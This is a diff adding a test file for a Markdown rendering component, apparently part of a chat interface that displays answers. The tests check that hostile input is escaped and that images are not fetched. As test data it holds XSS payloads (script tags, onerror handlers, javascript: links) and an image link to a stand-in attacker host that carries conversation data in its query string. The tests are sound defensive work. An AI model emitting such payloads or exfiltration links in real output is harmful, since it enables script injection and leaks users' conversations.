@@ -1,0 +1,51 @@
+/** What an answer becomes on the page: no raw HTML, nothing that is fetched by itself, only links that are safe. */
+import { renderToStaticMarkup } from 'react-dom/server';
+import { expect, test } from 'vitest';
+import { FakeCore, FakeSurroundings } from '../store/fake-core.ts';
+import { createWindowStore } from '../store/window-store.ts';
+import { WindowProvider } from '../views/window-context.tsx';
+import { Markdown } from './markdown.tsx';
+
+const drawn = (text: string, growing = false): string => {
+  const window = createWindowStore(new FakeCore(), new FakeSurroundings());
+  return renderToStaticMarkup(
+    <WindowProvider value={window}>
+      <Markdown text={text} growing={growing} />
+    </WindowProvider>,
+  );
+};
+
+test('hostile Markdown becomes words', () => {
+  const html = drawn(
+    '<img src=x onerror=alert(1)>\n\n<script>alert(1)</script>\n\n[a](javascript:alert(1)) <a href="javascript:x">b</a>\n\n<style>*{}</style>',
+  );
+  expect(html).not.toMatch(/<(?:img|script|style|iframe)/);
+  expect(html).not.toMatch(/href="?javascript/i);
+  expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
+});
+
+test('an image is offered as a link and not fetched', () => {
+  const html = drawn('![secret](https://evil.example/?q=conversation) ![x](data:image/png;base64,AA)');
+  expect(html).not.toMatch(/<img|src=/);
+  expect(html).toContain('href="https://evil.example/?q=conversation"');
+  expect(html).not.toContain('data:image');
+});
+
+test('a link shows where it leads and tells the other page nothing', () => {
+  expect(drawn('[here](https://example.org/a)')).toContain(
+    '<a href="https://example.org/a" title="https://example.org/a" target="_blank" rel="noopener noreferrer">here</a>',
+  );
+});
+
+test('tables, task lists and code are drawn, in the middle of the writing as well', () => {
+  expect(drawn('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('<table>');
+  expect(drawn('- [x] done')).toContain('type="checkbox"');
+  expect(drawn('```js\nlet a = "<b>', true)).toContain('let a = &quot;&lt;b&gt;');
+  expect(drawn('- a\n\n  ```py\n  x\n  ```')).toContain('<figcaption><span>py</span>');
+});
+
+test('a block too long to be parsed at every frame is plain while it grows, and rich in the end', () => {
+  const text = `**bold** ${'word '.repeat(5000)}`;
+  expect(drawn(text, true)).not.toContain('<strong>');
+  expect(drawn(text)).toContain('<strong>');
+});
